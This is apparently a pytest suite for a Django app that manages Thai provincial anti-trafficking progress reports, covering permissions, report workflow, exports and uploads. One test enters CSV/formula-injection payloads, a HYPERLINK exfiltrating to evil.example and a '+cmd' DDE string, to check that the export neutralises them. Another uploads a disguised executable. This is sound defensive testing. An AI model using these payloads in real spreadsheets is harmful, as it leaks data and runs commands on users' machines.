"""The plan pages through HTTP: who sees what, the report form and its flow, downloads."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from saphan.core.tests import files
from saphan.plans.models import ProgressReport, ReportState

from .world import make_world


@pytest.fixture
def w(db, monkeypatch, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    monkeypatch.setattr(
        "saphan.plans.computed.compute",
        lambda key, **kw: {"victims_identified": Decimal(3), "rights_notice_share": Decimal(75)}[
            key
        ],
    )
    # A day in quarter 2 of fiscal year 2569: quarter 1 has ended and is due.
    import datetime as dt

    monkeypatch.setattr("django.utils.timezone.localdate", lambda *a, **k: dt.date(2026, 2, 20))
    return make_world()


def _as(client, user):
    client.force_login(user)
    return client


def _start(client, w):
    return client.post(reverse("plans:report_start", args=["40"]), {"q": "2569-1"})


def _form(report, *, value="5", status="on_track") -> dict:
    data = {"version": report.version, "summary": "สรุป", "status": ""}
    for e in report.entries.select_related("assignment__indicator"):
        if not e.assignment.indicator.is_computed:
            data[f"e-{e.pk}-value"] = value
        data[f"e-{e.pk}-status"] = status
        data[f"e-{e.pk}-narrative"] = "ทำแล้ว"
    return data


def test_my_province_shows_the_plan_in_thai(client, w):
    response = _as(client, w["cw_kk"]).get(reverse("plans:my_province"))
    assert response.status_code == 200
    text = response.content.decode()
    assert "ผู้เสียหายที่ได้รับการคัดแยก" in text
    assert "ไตรมาส 1 ปีงบประมาณ 2569" in text
    assert "15 มกราคม 2569" in text  # quarter 1's report was due on 15 January 2026 (B.E. 2569)
    assert 'id="start-report"' in text


def test_plan_pages_refuse_roles_without_them(client, w):
    assert _as(client, w["vol_kk"]).get(reverse("plans:my_province")).status_code == 403
    assert _as(client, w["cw_tak"]).get(reverse("plans:province", args=["40"])).status_code == 403
    assert (
        _as(client, w["region_north"]).get(reverse("plans:region", args=["northeast"])).status_code
        == 403
    )
    assert _as(client, w["region_ne"]).get(reverse("plans:nation")).status_code == 403
    assert _as(client, w["sup_kk"]).get(reverse("plans:nation")).status_code == 403
    assert (
        _as(client, w["cw_tak"])
        .post(reverse("plans:report_start", args=["40"]), {"q": "2569-1"})
        .status_code
        == 403
    )


def test_report_form_keeps_what_was_typed_when_refused(client, w):
    _as(client, w["cw_kk"])
    response = _start(client, w)
    report = ProgressReport.objects.get()
    assert response.url == reverse("plans:report", args=[report.pk])
    data = _form(report)
    bad = next(k for k in data if k.endswith("-value"))
    data[bad] = "ห้าสิบ"
    data["action"] = "submit"
    response = client.post(reverse("plans:report", args=[report.pk]), data)
    assert response.status_code == 400
    text = response.content.decode()
    assert "กรอกเป็นตัวเลข" in text and 'value="ห้าสิบ"' in text
    report.refresh_from_db()
    assert report.state == ReportState.DRAFT


def test_submit_approve_review_through_the_pages(client, w):
    _as(client, w["sup_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    data = {**_form(report), "action": "submit"}
    response = client.post(reverse("plans:report", args=[report.pk]), data)
    assert response.status_code == 302
    report.refresh_from_db()
    assert report.state == ReportState.SUBMITTED
    # Another province's supervisor does not even see it; Khon Kaen's approves it.
    tak = _as(client, w["sup_tak"]).post(
        reverse("plans:report_action", args=[report.pk, "approve"])
    )
    assert tak.status_code == 404
    _as(client, w["sup_kk"]).post(reverse("plans:report_action", args=[report.pk, "approve"]))
    report.refresh_from_db()
    assert report.state == ReportState.APPROVED
    page = _as(client, w["region_ne"]).get(
        reverse("plans:region", args=["northeast"]) + "?q=2569-1"
    )
    text = page.content.decode()
    assert 'id="map-kkn" data-province="40" data-status="on_track"' in text
    assert "MapSVG" in text and "CC BY 4.0" in text
    client.post(reverse("plans:report_action", args=[report.pk, "review"]), {"note": "ดี"})
    report.refresh_from_db()
    assert report.state == ReportState.REVIEWED
    nation = _as(client, w["central"]).get(reverse("plans:nation") + "?q=2569-1")
    assert nation.status_code == 200 and 'data-status="on_track"' in nation.content.decode()


def test_a_computed_value_posted_by_hand_is_ignored(client, w):
    _as(client, w["cw_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    computed = report.entries.get(assignment__indicator__code="3.1.1")
    data = {**_form(report), f"e-{computed.pk}-value": "999", "action": "save"}
    client.post(reverse("plans:report", args=[report.pk]), data)
    computed.refresh_from_db()
    assert computed.value == Decimal("3.00")


def test_pdf_and_xlsx(client, w):
    from openpyxl import load_workbook

    _as(client, w["cw_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    pdf = client.get(reverse("plans:report_pdf", args=[report.pk]))
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
    xlsx = client.get(reverse("plans:report_xlsx", args=[report.pk]))
    assert xlsx.status_code == 200
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    values = [c for row in ws.iter_rows(values_only=True) for c in row if c is not None]
    assert "ผู้เสียหายที่ได้รับการคัดแยก" in values
    assert any("ขอนแก่น" in str(v) for v in values)
    # Outside the province a draft is not there to download.
    assert (
        _as(client, w["region_ne"]).get(reverse("plans:report_pdf", args=[report.pk])).status_code
        == 404
    )


def test_evidence_upload_and_download(client, w):
    _as(client, w["cw_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    pdf = SimpleUploadedFile(
        "minutes.pdf", files.pdf(text="minutes"), content_type="application/pdf"
    )
    client.post(
        reverse("plans:evidence_upload", args=[report.pk]), {"file": pdf, "title": "บันทึกการประชุม"}
    )
    evidence = report.evidence.get()
    url = reverse("plans:evidence_download", args=[report.pk, evidence.pk])
    response = client.get(url)
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF-")
    exe = SimpleUploadedFile("virus.pdf", b"MZ\x90\x00", content_type="application/pdf")
    response = client.post(
        reverse("plans:evidence_upload", args=[report.pk]), {"file": exe}, follow=True
    )
    assert "PDF, PNG" in response.content.decode() or "PDF" in response.content.decode()
    assert report.evidence.count() == 1
    assert _as(client, w["cw_tak"]).get(url).status_code == 404


def test_a_regional_officer_sees_small_victim_counts_as_fewer_than_5(client, w):
    _as(client, w["sup_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    client.post(reverse("plans:report", args=[report.pk]), {**_form(report), "action": "submit"})
    client.post(reverse("plans:report_action", args=[report.pk, "approve"]))
    own = client.get(reverse("plans:report", args=[report.pk])).content.decode()
    outside = (
        _as(client, w["region_ne"]).get(reverse("plans:report", args=[report.pk])).content.decode()
    )
    assert 'data-computed="1">3 ' in own
    assert 'data-computed="1"><span title' in outside and "&lt;5" in outside


def test_rollup_report_as_pdf_and_xlsx_for_region_and_nation(client, w):
    from openpyxl import load_workbook

    _as(client, w["sup_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    client.post(reverse("plans:report", args=[report.pk]), {**_form(report), "action": "submit"})
    _as(client, w["region_ne"])
    pdf = client.get(reverse("plans:region_export", args=["northeast", "pdf"]) + "?q=2569-1")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
    xlsx = client.get(reverse("plans:region_export", args=["northeast", "xlsx"]) + "?q=2569-1")
    wb = load_workbook(io.BytesIO(xlsx.content))
    provinces = [
        row for row in wb.worksheets[0].iter_rows(values_only=True) if row and row[1] == "ขอนแก่น"
    ]
    assert provinces and provinces[0][3] == "เป็นไปตามแผน"
    indicators = {row[0]: row for row in wb.worksheets[1].iter_rows(values_only=True)}
    assert indicators["3.1.1"][4] == "<5"  # 3 victims: a small count, hidden outside the province
    assert client.get(reverse("plans:nation_export", args=["xlsx"])).status_code == 403
    assert client.get(reverse("plans:region_export", args=["north", "pdf"])).status_code == 403
    nation = _as(client, w["central"]).get(
        reverse("plans:nation_export", args=["xlsx"]) + "?q=2569-1"
    )
    assert nation.status_code == 200
    assert [ws.title for ws in load_workbook(io.BytesIO(nation.content)).worksheets] == [
        "รายจังหวัด", "รายตัวชี้วัด", "รายภาค",
    ]  # fmt: skip


def test_the_plan_page_and_setting_targets(client, w):
    page = _as(client, w["cw_kk"]).get(reverse("plans:plan") + "?year=2569")
    assert page.status_code == 200
    text = page.content.decode()
    assert "ผู้เสียหายที่ได้รับการคัดแยก" in text and "400" in text  # 40 × 10 in the test world
    assert _as(client, w["vol_kk"]).get(reverse("plans:plan")).status_code == 403
    url = reverse("plans:province_targets", args=["40"]) + "?year=2569"
    assert _as(client, w["sup_kk"]).get(url).status_code == 403
    _as(client, w["central"])
    assert client.get(url).status_code == 200
    from saphan.plans.models import Assignment

    a = Assignment.objects.get(province_id="40", indicator__code="4.1.1")
    data = {f"t-{x.pk}": str(x.target) for x in Assignment.objects.filter(province_id="40")}
    data[f"t-{a.pk}"] = "-5"
    refused = client.post(url, data)
    assert refused.status_code == 400 and 'value="-5"' in refused.content.decode()
    data[f"t-{a.pk}"] = "260"
    assert client.post(url, data).status_code == 302
    a.refresh_from_db()
    assert a.target == Decimal(260)


def test_a_conflict_keeps_the_second_persons_summary_in_the_form(client, w):
    """Two people open the same draft; the first saves; the second's save is refused as a
    conflict and the page still holds the second person's summary and entries."""
    _as(client, w["cw_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    stale = _form(report)  # the second person's form, opened at this version
    first = _form(report, value="7")
    first["summary"] = "สรุปของคนแรก"
    assert client.post(reverse("plans:report", args=[report.pk]), first).status_code == 302
    stale["summary"] = "สรุปของคนที่สอง: จัดอบรมสามครั้ง"
    response = client.post(reverse("plans:report", args=[report.pk]), stale)
    assert response.status_code == 409
    text = response.content.decode()
    assert "สรุปของคนที่สอง: จัดอบรมสามครั้ง" in text
    assert 'value="5"' in text  # the second person's values, not the saved 7
    report.refresh_from_db()
    assert report.summary == "สรุปของคนแรก"


def test_report_xlsx_neutralises_formulas_typed_in_the_report(client, w):
    from openpyxl import load_workbook

    _as(client, w["cw_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    evil = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
    data = _form(report)
    data["summary"] = evil
    for key in [k for k in data if k.endswith("-narrative")]:
        data[key] = "+cmd|' /C calc'!A0"
    assert client.post(reverse("plans:report", args=[report.pk]), data).status_code == 302
    xlsx = client.get(reverse("plans:report_xlsx", args=[report.pk]))
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + evil in values and "'+cmd|' /C calc'!A0" in values


def test_the_report_and_rollup_pdfs_give_back_the_thai_they_print_and_are_tagged(
    client, w, printed_html
):
    # The sample (sara am, tone marks over upper vowels, ฐ ญ, leading vowels) as the quarter's
    # summary and as an indicator's title; then every word of both PDFs, labels included, must
    # come back from pdftotext as written ("กาหนด" for กำหนด was the plan report's before).
    from saphan.core.tests.pdf_text_layer import SAMPLE, assert_text_layer
    from saphan.plans.models import Indicator

    Indicator.objects.filter(code="3.1.1").update(title_th=SAMPLE)
    _as(client, w["sup_kk"])
    _start(client, w)
    report = ProgressReport.objects.get()
    client.post(
        reverse("plans:report", args=[report.pk]),
        {**_form(report), "summary": SAMPLE, "action": "submit"},
    )
    pdf = client.get(reverse("plans:report_pdf", args=[report.pk]))
    assert pdf.status_code == 200
    assert_text_layer(pdf.content, printed_html[-1])
    _as(client, w["region_ne"])
    rollup = client.get(reverse("plans:region_export", args=["northeast", "pdf"]) + "?q=2569-1")
    assert rollup.status_code == 200
    assert_text_layer(rollup.content, printed_html[-1])
